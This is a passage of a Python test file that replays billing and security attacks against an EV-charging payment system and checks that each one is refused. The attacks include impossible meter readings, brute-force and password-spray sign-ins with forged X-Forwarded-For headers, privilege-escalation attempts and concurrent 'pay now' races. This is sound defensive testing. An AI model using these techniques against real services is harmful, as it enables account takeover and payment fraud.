"""Issue 15's attacks, replayed against the real services, with the figures for its closing note.

Each test replays one attack class several times and counts, from database rows and localstripe's state
(never from timings): tried; refused (the attack was refused, or held as designed); lost (money or data that
should exist and does not: a session no payment covers, a refund owed and not made, an email never sent, a
connection dropped); doubled (money taken or given twice, or access handed to a second person). Every class
must end with refused == tried and nothing lost or doubled. The table is printed at the end of the run and
written to `attack-replay.txt` in pytest's temporary directory (docs/operations.md, "Attack replay").

The services are real: PostgreSQL, a redis-server of our own and `celery -A evbilling worker` subprocesses
where the money flows through tasks, localstripe (behind a gate that can refuse connections or hold answers),
the OCPP gateway with the `ocpp` library's chargers on real websockets, and Django's test client for the web."""
from __future__ import annotations

import asyncio
import contextlib
import csv
import io
import re
import time
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from io import StringIO
from threading import Barrier
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import kombu.exceptions
import pytest
from axes.models import AccessAttempt
from django.contrib import admin
from django.contrib.messages import get_messages
from django.contrib.sessions.models import Session
from django.core.management import CommandError, call_command
from django.db import connections
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from knox.models import AuthToken
from ocpp.v16 import call
from rest_framework.test import APIClient
from websockets.exceptions import ConnectionClosed

from billing_app import invoicing
from billing_app.invoicing import collection
from billing_app.invoicing import credit_notes as credit_note_module
from billing_app.invoicing.billing_run import billing_run, operator_billing_run
from billing_app.invoicing.errors import PeriodNotEndedError
from billing_app.invoicing.refunds import credit_notes_refund_pending, credit_notes_refund_pending_task
from billing_app.invoicing.tasks import billing_run as billing_run_task
from billing_app.invoicing.tasks import receipts_issue_pending
from billing_app.models import (
    BillingAccount,
    ChargeReview,
    CreditNote,
    Invoice,
    InvoiceLine,
    Payment,
    PaymentCustomer,
    Refund,
    SessionCharge,
    Subscription,
    SubscriptionPeriod,
)
from billing_app.payments import stripe_client
from billing_app.payments.methods import payment_method_add
from billing_app.payments.tasks import payments_settle_pending
from billing_app.plans import services as plans
from billing_app.settlement.review import charge_review_correct
from billing_app.settlement.tasks import sessions_settle_pending
from disputes_app import services as disputes
from sessions_app import services as session_services
from sessions_app.admin_paginator import EstimatedCountPaginator
from sessions_app.models import ChargingSession, Connector, ConnectorStatusEvent, MeterSample
from tests import factories
from tests.billing_app.invoice_fixtures import account, charged_session
from tests.billing_app.payment_fixtures import payg_driver, payg_session_stopped
from tests.billing_app.plan_fixtures import make_plan
from tests.ops.attack_table import AttackTable
from tests.ops.card_account import kept_at_stripe, refunded_at_stripe, session_accounts, untracked_intents
from tests.ops.processes import wait_for
from tests.sessions_app.ocpp_chargers import charger, exchange, gateway, raw_socket

# One xdist worker runs them all: the session's attack table (printed at the end of the run) is that worker's.
pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("real_services"), pytest.mark.django_db(transaction=True),
              pytest.mark.xdist_group("attack_replay")]

D = Decimal
PASSWORD = "pw-for-tests"  # tests.factories.UserFactory's
HUGE = 99999999999999999999  # past 2^63
LATER = timedelta(hours=2)  # past PAYMENTS_COLLECT_AFTER_MINUTES: the collection sweep's hour has passed
PAYMENT_SETTLE = "billing_app.tasks.session_payment_settle"
REFUND_SEND = "billing_app.tasks.credit_note_refund_send"


@pytest.fixture(scope="session")
def attack_table(request, tmp_path_factory) -> Iterator[AttackTable]:
    table = AttackTable()
    yield table
    table.report(request.config, tmp_path_factory.getbasetemp() / "attack-replay.txt")


# --- Shared steps ---------------------------------------------------------------------------------------

def wait_until(predicate, *, timeout: float = 60) -> None:
    """Poll until `predicate` holds or `timeout` seconds pass, and return either way: what follows counts what is
    there (the timeout only bounds the wait, it is never a figure)."""
    deadline = time.monotonic() + timeout
    while not predicate() and time.monotonic() < deadline:
        time.sleep(0.1)


async def hold_placed(session_id: int) -> None:
    """Wait (a minute at most) while the session runs until it has a hold of its own, as a charging car would."""
    def placed() -> None:
        try:
            wait_until(Payment.objects.filter(session_id=session_id, kind=Payment.Kind.SESSION_HOLD).exclude(
                stripe_payment_intent_id=None).exists)
        finally:
            connections.close_all()  # this thread's connection

    await asyncio.to_thread(placed)


def task_ids(worker, task: str, outcome: str) -> set[str]:
    """Ids of the `task` runs the worker logged with `outcome` ("succeeded", "retry")."""
    return set(re.findall(rf"Task {re.escape(task)}\[([0-9a-f-]+)\] {outcome}", worker.output()))


def sweep_money() -> None:
    """Every money sweep of the beat schedule, run here and now, with the collection's hour already passed."""
    sessions_settle_pending()
    payments_settle_pending()
    receipts_issue_pending()
    credit_notes_refund_pending()
    collection.receipts_collect_unpaid(now=timezone.now() + LATER)


def paid_receipts(operator, count: int, *, worker) -> list[Invoice]:
    """`count` pay-as-you-go drivers, each authorized (a hold) and charged 11 kWh (5.11 EUR) on a station of their
    own; the worker prices, captures and receipts each session."""
    sessions = []
    for n in range(count):
        station = factories.ConnectorFactory(station__location__operator=operator).station
        token = factories.IdTokenFactory(operator=operator, driver=payg_driver(operator))
        assert session_services.token_authorize(station=station, uid=token.uid).accepted
        sessions.append(payg_session_stopped(station, token, ref=f"replay-{n}"))
    receipts = Invoice.objects.filter(session__in=sessions, kind=Invoice.Kind.RECEIPT, state=Invoice.State.PAID)
    wait_for(lambda: receipts.count() == count, timeout=60, what="every receipt paid", diagnostics=worker.output)
    return list(receipts.order_by("pk"))


def sampled(at: datetime, wh: int) -> list[dict]:
    return [{"timestamp": at.isoformat(), "sampledValue": [
        {"value": str(wh), "unit": "Wh", "measurand": "Energy.Active.Import.Register"}]}]


async def authorize(cp, uid: str) -> str:
    return (await cp.call(call.Authorize(id_tag=uid), suppress=False)).id_tag_info["status"]


async def start(cp, uid: str, at: datetime) -> int:
    started = await cp.call(call.StartTransaction(connector_id=1, id_tag=uid, meter_start=0, timestamp=at.isoformat()),
                            suppress=False)
    assert started.id_tag_info["status"] == "Accepted"
    return started.transaction_id


async def stop(cp, transaction_id: int, *, at: datetime, wh: int, samples=()) -> None:
    for sample_at, sample_wh in samples:
        await cp.call(call.MeterValues(connector_id=1, transaction_id=transaction_id,
                                       meter_value=sampled(sample_at, sample_wh)), suppress=False)
    await cp.call(call.StopTransaction(meter_stop=wh, timestamp=at.isoformat(), transaction_id=transaction_id),
                  suppress=False)


# --- 1. Impossible meter readings ------------------------------------------------------------------------

IMPLAUSIBLE = [  # what a 22 kW charger reports: readings (seconds after the start, Wh), then the stop
    ("2,000,000,000 Wh in 60 s", [], (60, 2_000_000_000)),
    ("a register going down", [(1200, 6000), (2400, 2000)], (3600, 9000)),
    ("a jump between readings", [(600, 1000), (660, 19_000)], (3 * 3600, 20_000)),
]


def test_implausible_readings_are_held_for_review_and_never_billed(attack_table, operator, stripe_gate, broker,
                                                                   celery_workers):
    """Chargers report impossible energy (the reproduced 2,000,000,000 Wh in 60 s, a register going down, a jump).
    Refused: priced but held for review, nothing captured, charged off-session or receipted, even after every
    sweep. Then each is corrected to 9 kWh: lost or doubled is what the review's capture and receipt miss or
    repeat, at localstripe and in our rows."""
    factories.energy_tariff(operator)  # 0.39 EUR/kWh + 19 %, no max price (as in the attack)
    worker = celery_workers(stripe_api_host=stripe_gate.url)
    tries = [IMPLAUSIBLE[n % len(IMPLAUSIBLE)] for n in range(6)]
    drivers = [payg_driver(operator) for _ in tries]
    tokens = [factories.IdTokenFactory(operator=operator, driver=driver) for driver in drivers]
    stations = [factories.ConnectorFactory(station__location__operator=operator).station for _ in tries]
    t0 = timezone.now() - timedelta(hours=4)

    async def replay(gw, station, token, readings, end) -> int:
        async with charger(gw, station.ocpp_identity) as cp:
            assert await authorize(cp, token.uid) == "Accepted"
            transaction_id = await start(cp, token.uid, t0)
            await stop(cp, transaction_id, at=t0 + timedelta(seconds=end[0]), wh=end[1],
                       samples=[(t0 + timedelta(seconds=s), wh) for s, wh in readings])
            return transaction_id

    async def main() -> list[int]:
        async with gateway() as gw:
            return [await replay(gw, station, token, readings, end)
                    for station, token, (_, readings, end) in zip(stations, tokens, tries, strict=True)]

    sessions = list(ChargingSession.objects.filter(pk__in=asyncio.run(main())).order_by("pk"))
    wait_until(lambda: len(task_ids(worker, PAYMENT_SETTLE, "succeeded")) >= len(sessions), timeout=60)
    sweep_money()

    refused, lost, doubled = 0, [], []
    for session in sessions:
        review = ChargeReview.objects.filter(charge__session=session).first()
        payments = list(Payment.objects.filter(session=session))
        holds = [p for p in payments if p.kind == Payment.Kind.SESSION_HOLD and p.status == Payment.Status.AUTHORIZED
                 and stripe_client.payment_intent_retrieve(p.stripe_payment_intent_id)["status"] == "requires_capture"]
        taken = [p for p in payments if p.amount_captured or p.kind != Payment.Kind.SESSION_HOLD or kept_at_stripe(p)]
        receipted = Invoice.objects.filter(session=session).exists()
        if review is not None and review.status == ChargeReview.Status.HELD and not taken and not receipted:
            refused += 1
        if review is None or len(holds) != 1:
            lost.append(f"session {session.pk}: review {review}, live holds {len(holds)} (nothing left to capture)")
        live = [p for p in payments if p.status in (Payment.Status.PENDING, Payment.Status.AUTHORIZED,
                                                     Payment.Status.CAPTURED)]
        if len(live) > 1:
            doubled.append(f"session {session.pk}: {len(live)} live payments while held")

    staff = factories.OperatorStaffFactory(operator=operator)
    for session in sessions:
        charge_review_correct(charge_id=session.charge.pk, corrected_energy_kwh=D("9.000"), by=staff)
    paid = Invoice.objects.filter(session__in=sessions, state=Invoice.State.PAID)
    wait_until(lambda: paid.count() == len(sessions), timeout=60)
    lost_after_review, doubled_after_review = session_accounts(sessions)
    tally = attack_table.record(1, "impossible meter readings (OCPP)", tried=len(tries), refused=refused,
                                lost=lost + lost_after_review,
                                doubled=doubled + doubled_after_review + untracked_intents(drivers))
    tally.check()
    corrected = SessionCharge.objects.filter(session__in=sessions).values_list("total_incl_vat", flat=True)
    assert set(corrected) == {D("4.18")}  # 9 kWh x 0.39 = 3.51 + 0.67 VAT


# --- 2. A second session on one token --------------------------------------------------------------------

def test_a_second_session_on_one_token_gets_a_hold_of_its_own(attack_table, operator, payg_tariff, stripe_gate,
                                                              broker, celery_workers):
    """One card starts a second session on another charger: while its first one runs, or with both Authorizes
    before either start claims a hold. Each session charges for a while (until its hold is there, a minute at
    most) and stops. Refused: the second
    session is held on its own hold. Lost: a session not paid in full after every sweep; doubled: more taken
    than owed, at Stripe or in our rows, or a PaymentIntent no row knows."""
    worker = celery_workers(stripe_api_host=stripe_gate.url)
    drivers = [payg_driver(operator) for _ in range(5)]
    tokens = [factories.IdTokenFactory(operator=operator, driver=driver) for driver in drivers]
    pairs = [tuple(factories.ConnectorFactory(station__location__operator=operator).station for _ in range(2))
             for _ in tokens]
    t0 = timezone.now() - timedelta(hours=3)

    async def replay(gw, token, first_station, second_station, both_authorized_first: bool) -> tuple[int, int]:
        async with charger(gw, first_station.ocpp_identity) as a, charger(gw, second_station.ocpp_identity) as b:
            if both_authorized_first:
                assert [await authorize(a, token.uid), await authorize(b, token.uid)] == ["Accepted"] * 2
                first = await start(a, token.uid, t0)
                second = await start(b, token.uid, t0 + timedelta(minutes=10))
            else:
                assert await authorize(a, token.uid) == "Accepted"
                first = await start(a, token.uid, t0)
                assert await authorize(b, token.uid) == "Accepted"  # the first one still charges
                second = await start(b, token.uid, t0 + timedelta(minutes=10))
            await hold_placed(first)
            await hold_placed(second)
            await stop(a, first, at=t0 + timedelta(hours=1), wh=11_000, samples=[(t0 + timedelta(hours=1), 11_000)])
            await stop(b, second, at=t0 + timedelta(minutes=70), wh=22_000,
                       samples=[(t0 + timedelta(minutes=70), 22_000)])
            return first, second

    async def main() -> list[tuple[int, int]]:
        async with gateway() as gw:
            return [await replay(gw, token, *pair, both_authorized_first=n % 2 == 1)
                    for n, (token, pair) in enumerate(zip(tokens, pairs, strict=True))]

    started = asyncio.run(main())
    sessions = list(ChargingSession.objects.filter(pk__in=[pk for pair in started for pk in pair]).order_by("pk"))
    receipts = Invoice.objects.filter(session__in=sessions, kind=Invoice.Kind.RECEIPT)
    wait_until(lambda: receipts.count() == len(sessions)
               and len(task_ids(worker, PAYMENT_SETTLE, "succeeded")) >= len(sessions), timeout=60)
    sweep_money()

    seconds = [second for _, second in started]
    refused = Payment.objects.filter(session_id__in=seconds, kind=Payment.Kind.SESSION_HOLD).exclude(
        stripe_payment_intent_id=None).values("session_id").distinct().count()
    lost, doubled = session_accounts(sessions)
    tally = attack_table.record(2, "second session on one token (OCPP)", tried=len(started), refused=refused,
                                lost=lost, doubled=doubled + untracked_intents(drivers))
    tally.check()


# --- 3. A refund owed while Stripe is down ------------------------------------------------------------------

def test_refunds_owed_while_stripe_is_down_are_kept_and_sent_once(attack_table, operator, payg_tariff, stripe_gate,
                                                                 broker, celery_workers):
    """Credit notes with a refund are issued while Stripe refuses connections; the worker's tasks retry; Stripe
    comes back and the beat's sweep runs beside the retries. Refused (held as designed): the refund intent was
    stored (pending, with its amount) and nothing was lost while Stripe was down; each is sent once it is back.
    Lost: a refund owed and not made at Stripe; doubled: a refund made twice (rows or localstripe)."""
    worker = celery_workers(stripe_api_host=stripe_gate.url)
    receipts = paid_receipts(operator, 5, worker=worker)

    stripe_gate.down()
    notes, stored = [], set()
    with invoicing.delivery_suppressed():  # no PDFs: the worker's time goes to the refunds
        for receipt in receipts:
            for amount in (D("2.00"), D("1.50")):
                note = invoicing.credit_note_issue(invoice_id=receipt.pk, reason="Refund while Stripe is down",
                                                   amount_incl_vat=amount, refund=True)
                if (note.refund_status, note.refund_amount) == (CreditNote.RefundStatus.PENDING, amount):
                    stored.add(note.pk)  # the intent, written with the credit note
                notes.append(note)
    wait_until(lambda: len(task_ids(worker, REFUND_SEND, "retry")) >= len(notes), timeout=60)
    nothing_sent_while_down = not Refund.objects.filter(status=Refund.Status.SUCCEEDED).exists()

    stripe_gate.up()
    credit_notes_refund_pending_task.delay()  # as beat queues it, beside the retries
    pending = CreditNote.objects.filter(pk__in=[n.pk for n in notes]).exclude(
        refund_status=CreditNote.RefundStatus.SUCCEEDED)
    wait_until(lambda: not pending.exists(), timeout=60)
    wait_until(lambda: len(task_ids(worker, REFUND_SEND, "succeeded")) >= len(notes), timeout=90)

    lost, doubled = [], []
    for receipt in receipts:
        owed = sum((n.refund_amount for n in notes if n.invoice_id == receipt.pk), D(0))
        rows = Refund.objects.filter(payment__session_id=receipt.session_id)
        made = sum((r.amount for r in rows.filter(status=Refund.Status.SUCCEEDED)), D(0))
        at_stripe = sum((refunded_at_stripe(p) for p in Payment.objects.filter(session_id=receipt.session_id)), D(0))
        line = f"receipt {receipt.number}: owed {owed}, refund rows {rows.count()} ({made}), at Stripe {at_stripe}"
        if made < owed or at_stripe < owed:
            lost.append(line)
        if rows.count() > 2 or made > owed or at_stripe > owed:
            doubled.append(line)
    sent_once_back = CreditNote.objects.filter(pk__in=stored, refund_status=CreditNote.RefundStatus.SUCCEEDED)
    tally = attack_table.record(3, "refund owed while Stripe is down, then back", tried=len(notes),
                                refused=sent_once_back.count() if nothing_sent_while_down else 0, lost=lost,
                                doubled=doubled)
    tally.check()


# --- 4. A failing on-commit hook -------------------------------------------------------------------------

def test_a_failing_on_commit_hook_skips_no_other_hook(attack_table, operator, payg_tariff, stripe_gate, broker,
                                                      celery_workers, monkeypatch, mailoutbox):
    """A support agent resolves disputes by refund on the web; the first hook after the commit (queueing the
    refund task) fails as when the broker refuses the message. Refused: the agent's request succeeds and every
    later hook still runs (the credit note's PDF is rendered by the worker, the driver's outcome email sent).
    Lost: a refund that never reaches the card (the sweep must send it), a PDF or an email missing; doubled:
    a refund or an email sent twice."""
    worker = celery_workers(stripe_api_host=stripe_gate.url)
    receipts = paid_receipts(operator, 5, worker=worker)
    agent = factories.SupportFactory()
    agent.supported_operators.add(operator)
    tickets = []
    for receipt in receipts:
        ticket = disputes.ticket_open(by=receipt.driver, session=receipt.session, reason="wrong_amount",
                                      description="The charger counted too much")
        tickets.append(disputes.ticket_transition(ticket=ticket, by=agent, to_status="in_progress"))
    failed = []

    def broker_refuses(credit_note_id):
        failed.append(credit_note_id)
        raise kombu.exceptions.OperationalError("Error 111 connecting to the broker. Connection refused.")

    monkeypatch.setattr(credit_note_module, "credit_note_refund_send_task", SimpleNamespace(delay=broker_refuses))
    client = Client(raise_request_exception=False)  # a 500 is counted, not raised
    client.force_login(agent)
    mailoutbox.clear()
    answers = [client.post(reverse("disputes:support_ticket", args=[ticket.pk]), {
        "action": "resolve", "resolve-kind": "refund", "resolve-amount": "2.00",
        "resolve-explanation": "Refunded: the charger over-reported"}).status_code for ticket in tickets]
    notes = CreditNote.objects.filter(invoice__in=receipts)
    wait_until(lambda: notes.count() == len(tickets) and not notes.filter(pdf_sha256="").exists(), timeout=60)
    emails = Counter(m.subject for m in mailoutbox)
    pending_before_sweep = notes.filter(refund_status=CreditNote.RefundStatus.PENDING).count()
    credit_notes_refund_pending()  # the beat's sweep sends what the failed hook never queued

    refused, lost, doubled = 0, [], []
    for ticket, receipt, status in zip(tickets, receipts, answers, strict=True):
        outcome = f"[Ticket #{ticket.pk}] Outcome: Refund"
        note = notes.filter(invoice=receipt).first()
        at_stripe = sum((refunded_at_stripe(p) for p in Payment.objects.filter(session_id=receipt.session_id)), D(0))
        refused += status == 302 and note is not None and bool(note.pdf_sha256) and emails[outcome] >= 1
        if note is None or at_stripe < D("2.00") or emails[outcome] < 1 or not note.pdf_sha256:
            lost.append(f"ticket {ticket.pk}: answer {status}, credit note {note}, refunded {at_stripe}, "
                        f"emails {emails[outcome]}")
        if at_stripe > D("2.00") or emails[outcome] > 1 or notes.filter(invoice=receipt).count() > 1:
            doubled.append(f"ticket {ticket.pk}: refunded {at_stripe}, emails {emails[outcome]}")
    tally = attack_table.record(4, "failing on-commit hook (refund resolution)", tried=len(failed), refused=refused,
                                lost=lost, doubled=doubled)
    tally.check()
    assert (len(failed), pending_before_sweep) == (len(tickets), len(tickets))  # every first hook failed


# --- 5. A slow Stripe at Authorize ---------------------------------------------------------------------------

def test_a_slow_stripe_at_authorize_never_stalls_the_gateway(attack_table, operator, payg_tariff, stripe_gate, broker,
                                                             settings):
    """Five chargers send Authorize at once; each hold reaches localstripe, whose answers the gate keeps back.
    Refused (held as designed): another charger's MeterValues and Heartbeat are answered while every Authorize
    waits, and each Authorize is answered by the gateway's deadline with the documented Stripe-down rule
    (Accepted), its hold request still unanswered. Lost: a token without a hold once Stripe has answered;
    doubled: a second hold or PaymentIntent for one Authorize."""
    settings.OCPP_PAYMENT_STANDING_TIMEOUT = 2  # the test chargers give up after 5 s
    drivers = [payg_driver(operator) for _ in range(5)]
    tokens = [factories.IdTokenFactory(operator=operator, driver=driver) for driver in drivers]
    stations = [factories.ConnectorFactory(station__location__operator=operator).station for _ in tokens]
    busy = factories.ChargingSessionFactory(connector__station__location__operator=operator, id_token=None,
                                            started_at=timezone.now() - timedelta(hours=1), meter_start_wh=0)
    answered: list[str] = []

    def holds_at_stripe() -> int:
        return sum(request.startswith("POST /v1/payment_intents ->") for request in stripe_gate.requests)

    async def authorize_waiting(cp, token) -> str:
        try:
            status = await authorize(cp, token.uid)
        except TimeoutError:
            status = "no answer"
        answered.append(f"Authorize: {status} ({holds_at_stripe()} holds at Stripe, unanswered)")
        return status

    async def main() -> list[str]:
        async with gateway() as gw, contextlib.AsyncExitStack() as stack:
            chargers = [await stack.enter_async_context(charger(gw, s.ocpp_identity)) for s in stations]
            bystander = await stack.enter_async_context(charger(gw, busy.connector.station.ocpp_identity))
            stripe_gate.hold(r"^/v1/payment_intents$")
            waiting = [asyncio.create_task(authorize_waiting(cp, t)) for cp, t in zip(chargers, tokens, strict=True)]
            await asyncio.to_thread(wait_for, lambda: holds_at_stripe() == len(tokens), timeout=10,
                                    what="every hold request at Stripe")
            await bystander.call(call.MeterValues(connector_id=1, transaction_id=busy.pk,
                                                  meter_value=sampled(timezone.now(), 900)), suppress=False)
            answered.append("bystander: MeterValues")
            await bystander.call(call.Heartbeat(), suppress=False)
            answered.append("bystander: Heartbeat")
            statuses = await asyncio.gather(*waiting)
            stripe_gate.let_go()  # Stripe answers; the gateway's hook threads record the holds before it stops
            return statuses

    statuses = asyncio.run(main())
    bystander_first = answered[:2] == ["bystander: MeterValues", "bystander: Heartbeat"]
    refused = sum(status == "Accepted" for status in statuses) if bystander_first else 0
    lost = [] if MeterSample.objects.filter(session=busy).exists() else ["the bystander's MeterValues: not stored"]
    doubled = []
    for token in tokens:
        holds = list(Payment.objects.filter(id_token=token, kind=Payment.Kind.SESSION_HOLD))
        live = [p for p in holds if p.status == Payment.Status.AUTHORIZED
                and stripe_client.payment_intent_retrieve(p.stripe_payment_intent_id)["status"] == "requires_capture"]
        if not live:
            lost.append(f"token {token.uid}: no hold ({[(p.status, p.stripe_payment_intent_id) for p in holds]})")
        if len(holds) > 1:
            doubled.append(f"token {token.uid}: {len(holds)} holds")
    tally = attack_table.record(5, "slow Stripe at Authorize (OCPP)", tried=len(tokens), refused=refused, lost=lost,
                                doubled=doubled + untracked_intents(drivers))
    tally.check()


# --- 6. Sign-in brute force ----------------------------------------------------------------------------------

SIGNED_IN = {"api": 200, "portal": 302, "admin": 302}


@pytest.fixture
def shipped_limits(settings):
    """The shipped lockout limits, spelled out; behind one trusted proxy, which appends the client's address."""
    settings.SIGNIN_FAILURES_PER_ACCOUNT = settings.AXES_FAILURE_LIMIT = 5
    settings.SIGNIN_FAILURES_PER_ADDRESS = 30
    settings.TRUSTED_PROXY_COUNT = 1


def sign_in(endpoint: str, username: str, password: str, *, forwarded_for: str) -> int:
    """One password sign-in through our one trusted proxy (10.0.0.2), which appended the client's address."""
    extra = {"REMOTE_ADDR": "10.0.0.2", "HTTP_X_FORWARDED_FOR": forwarded_for}
    credentials = {"username": username, "password": password}
    if endpoint == "api":
        return APIClient().post("/api/v1/auth/token/", credentials, **extra).status_code
    return Client().post(reverse("login" if endpoint == "portal" else "admin:login"), credentials, **extra).status_code


def access_held(users) -> list[str]:
    """API tokens and web sessions of `users` (before their owners sign in: the attacker's)."""
    ids = {str(user.pk) for user in users}
    tokens = [f"API token of {t.user}" for t in AuthToken.objects.filter(user__in=users)]
    sessions = [f"web session of user {s.get_decoded().get('_auth_user_id')}" for s in Session.objects.all()
                if s.get_decoded().get("_auth_user_id") in ids]
    return tokens + sessions


@pytest.mark.django_db
def test_guessing_one_accounts_password_from_rotating_addresses_is_locked_out(attack_table, operator,
                                                                              shipped_limits):
    """40 guesses at one staff account, from a new address each time (and a new forged X-Forwarded-For entry),
    over the API, portal and admin sign-ins in turn; the twentieth guess is the right password. Refused: no
    guess signs in (the account locks after 5 failures). Lost: a colleague refused from their own address;
    doubled: a token or session the attacker holds on the account."""
    victim = factories.OperatorStaffFactory(operator=operator)
    guesses = [f"guess-{n}" for n in range(40)]
    guesses[19] = PASSWORD
    endpoints = [("api", "portal", "admin")[n % 3] for n in range(len(guesses))]
    statuses = [sign_in(endpoint, victim.username, guess, forwarded_for=f"6.6.6.{n}, 203.0.113.{n}")
                for n, (endpoint, guess) in enumerate(zip(endpoints, guesses, strict=True))]
    refused = sum(status != SIGNED_IN[endpoint] for endpoint, status in zip(endpoints, statuses, strict=True))
    doubled = access_held([victim])
    colleague = factories.OperatorStaffFactory(operator=operator)
    lost = [f"{colleague.username} at {endpoint}: {status}" for endpoint in SIGNED_IN
            if (status := sign_in(endpoint, colleague.username, PASSWORD, forwarded_for="192.0.2.10"))
            != SIGNED_IN[endpoint]]
    tally = attack_table.record(6, "sign-in: one account, rotating X-Forwarded-For", tried=len(guesses),
                                refused=refused, lost=lost, doubled=doubled)
    tally.check()
    assert statuses[19] == 429  # the right password came after the lock


@pytest.mark.django_db
def test_guessing_many_accounts_from_one_address_locks_that_address(attack_table, operator, shipped_limits):
    """One address sprays 40 driver accounts once each (rotating its forged X-Forwarded-For entry): 30 wrong
    passwords, then the right one at the last ten. Refused: none signs in (the address locks after 30 failures).
    Lost: an account owner refused from their own address; doubled: a token or session the attacker holds."""
    accounts = [factories.DriverFactory(operator=operator) for _ in range(40)]
    endpoints = [("api", "portal")[n % 2] for n in range(len(accounts))]
    statuses = [sign_in(endpoint, account.username, "Winter2026!" if n < 30 else PASSWORD,
                        forwarded_for=f"6.6.6.{n}, 198.51.100.66")
                for n, (endpoint, account) in enumerate(zip(endpoints, accounts, strict=True))]
    refused = sum(status != SIGNED_IN[endpoint] for endpoint, status in zip(endpoints, statuses, strict=True))
    doubled = access_held(accounts)
    lost = [f"{account.username} at {endpoint}: {status}"
            for n, (endpoint, account) in enumerate(zip(endpoints, accounts, strict=True))
            if (status := sign_in(endpoint, account.username, PASSWORD, forwarded_for=f"192.0.2.{n}"))
            != SIGNED_IN[endpoint]]
    tally = attack_table.record(6, "sign-in: one address, many accounts", tried=len(accounts), refused=refused,
                                lost=lost, doubled=doubled)
    tally.check()
    assert AccessAttempt.objects.filter(ip_address="198.51.100.66").exists()


# --- 7. Staff setting another user's password ---------------------------------------------------------------

NEW_PASSWORD = "a-brand-new-password-7"


@pytest.mark.django_db
def test_operator_staff_cannot_set_another_users_password(attack_table, client, operator, other_operator):
    """An operator's staff member opens and posts the admin's password form of ten other people: drivers and
    colleagues of their operator, support staff, a superuser, another operator's staff and driver. Refused: 403 or
    404 for the form and the post, the password unchanged. Lost: a target whose own password no longer works;
    doubled: a target the attacker's password now opens (the account in two hands)."""
    targets = [*(factories.DriverFactory(operator=operator) for _ in range(3)),
               *(factories.OperatorStaffFactory(operator=operator) for _ in range(3)),
               factories.SupportFactory(), factories.UserFactory(is_superuser=True, is_staff=True),
               factories.DriverFactory(operator=other_operator),
               factories.OperatorStaffFactory(operator=other_operator)]
    client.force_login(factories.OperatorStaffFactory(operator=operator))
    refused, lost, doubled = 0, [], []
    for target in targets:
        stored = target.password
        url = reverse("admin:auth_user_password_change", args=[target.pk])
        shown = client.get(url).status_code
        posted = client.post(url, {"password1": NEW_PASSWORD, "password2": NEW_PASSWORD}).status_code
        target.refresh_from_db()
        refused += shown in (403, 404) and posted in (403, 404) and target.password == stored
        if not target.check_password(PASSWORD):
            lost.append(f"{target.username}: own password no longer works ({shown}, {posted})")
        if target.check_password(NEW_PASSWORD):
            doubled.append(f"{target.username}: the attacker's password works ({shown}, {posted})")
    tally = attack_table.record(7, "staff sets another user's password (admin)", tried=len(targets), refused=refused,
                                lost=lost, doubled=doubled)
    tally.check()


# --- 8. Pay now, ten times at once --------------------------------------------------------------------------

def past_due_plan(operator, plan) -> Subscription:
    """A subscription whose renewal an hour ago was declined (past due); its driver has put a working card back on
    it and presses "pay now"."""
    driver = payg_driver(operator)
    visa = PaymentCustomer.objects.get(driver=driver).default_payment_method_id
    now = timezone.now()
    with invoicing.delivery_suppressed():
        subscription = plans.plan_subscribe(driver=driver, plan=plan, payment_method_id=visa,
                                            now=now - timedelta(days=35))
        failing = payment_method_add(driver=driver, payment_method_id="pm_card_chargeCustomerFail")
        Subscription.objects.filter(pk=subscription.pk).update(payment_method_id=failing.id)
        plans.subscriptions_renew_due(now=now - timedelta(hours=1))
    Subscription.objects.filter(pk=subscription.pk).update(payment_method_id=visa)
    subscription.refresh_from_db()
    assert subscription.status == Subscription.Status.PAST_DUE
    return subscription


def pay_now_at_once(subscription: Subscription, count: int) -> list[tuple[int, list[str]]]:
    """`count` portal "pay now" requests of the driver, released together: (status, messages) of each."""
    url = reverse("portal:plan_pay", args=[subscription.pk])
    clients = [Client() for _ in range(count)]
    for client in clients:
        client.force_login(subscription.driver)
    barrier = Barrier(count)

    def press(client: Client) -> tuple[int, list[str]]:
        try:
            barrier.wait()
            response = client.post(url)
            return response.status_code, [f"{m.level_tag}: {m}" for m in get_messages(response.wsgi_request)]
        finally:
            connections.close_all()

    with ThreadPoolExecutor(max_workers=count) as pool:
        return list(pool.map(press, clients))


def test_pay_now_fired_ten_times_at_once_takes_one_path(attack_table, operator, stripe_server, broker):
    """Two past-due plans; for each, "pay now" is pressed ten times at once on the portal. Refused (one path):
    one request pays and every other is told the payment is under way or there is nothing to pay. Lost: a
    period left unpaid; doubled: more than one capture for it, at localstripe or in our rows."""
    plan = make_plan(operator)  # 9.90 EUR + 19 % = 11.78 EUR a month
    subscriptions = [past_due_plan(operator, plan) for _ in range(2)]
    answers = [answer for subscription in subscriptions for answer in pay_now_at_once(subscription, 10)]
    paid = sum(any(note.startswith("success") for note in notes) for _, notes in answers)
    turned_away = sum(status == 302 and any("under way" in note or "Nothing to pay" in note for note in notes)
                      for status, notes in answers)
    lost, doubled = [], []
    for subscription in subscriptions:
        payments = Payment.objects.filter(driver=subscription.driver)
        captured = payments.filter(status=Payment.Status.CAPTURED).count()
        kept = sum((kept_at_stripe(p) for p in payments), D(0))
        periods = list(SubscriptionPeriod.objects.filter(subscription=subscription).values_list("status", flat=True))
        line = f"plan of {subscription.driver}: periods {periods}, captured {captured}, kept at Stripe {kept}"
        if periods != ["paid", "paid"] or captured < 2 or kept < 2 * D("11.78"):
            lost.append(line)
        if captured > 2 or kept > 2 * D("11.78"):
            doubled.append(line)
    tally = attack_table.record(8, '"pay now" x10 at once (portal)', tried=len(answers),
                                refused=turned_away + min(paid, len(subscriptions)), lost=lost,
                                doubled=doubled + untracked_intents([s.driver for s in subscriptions]))
    tally.check()
    assert paid == len(subscriptions), answers


# --- 9. A billing run of a month not ended ------------------------------------------------------------------

@pytest.mark.django_db
def test_a_billing_run_of_a_month_not_ended_is_refused(attack_table, operator, connector, no_delivery):
    """The November run is started before November has ended in the operator's time zone (Europe/Berlin): on
    the 29th as reproduced, at 23:30 and 23:59 on the 30th; and the current month by the service, the command
    and the task on today's clock. Refused: an error and no statement. Then a session ends at 23:00 on 30
    November and the run is made on 1 December, twice. Lost: a November session on no statement; doubled: a
    session on two, or two statements for an account and month."""
    drivers = [factories.DriverFactory(operator=operator) for _ in range(3)]
